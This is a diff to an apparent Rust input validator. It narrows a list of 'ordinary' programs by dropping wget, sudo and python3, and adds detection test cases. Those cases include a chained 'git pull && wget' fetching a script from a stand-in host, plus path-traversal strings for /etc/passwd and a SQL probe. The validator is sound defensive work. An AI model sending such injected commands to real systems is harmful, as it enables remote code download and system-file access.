@@ -23,8 +23,7 @@ const ORDINARY: &[&str] = &[
 /// Programs that are run one after the other all day.
 const PROGRAMS: &[&str] = &[
     "apt", "apt-get", "brew", "bundle", "cargo", "cd", "cmake", "composer", "cp", "docker", "git", "go",
-    "make", "mkdir", "mv", "npm", "npx", "pip", "pip3", "pnpm", "poetry", "python3", "sudo", "tar", "unzip",
-    "wget", "yarn",
+    "make", "mkdir", "mv", "npm", "npx", "pip", "pip3", "pnpm", "poetry", "tar", "unzip", "yarn",
 ];
 /// So much of a value is read.
 const LONGEST: usize = 4096;
@@ -141,6 +140,8 @@ mod tests {
             "SELECT name FROM sysusers",
             "a.tgz && tar xf b.tgz",
             "git pull && whoami",
+            "git pull && wget http://a.example/b.sh",
+            "cd a && sudo make",
             "../../etc/passwd?",
             "/var/log/../log/nginx/access.log",
             "/opt/lampp/logs/access_log",
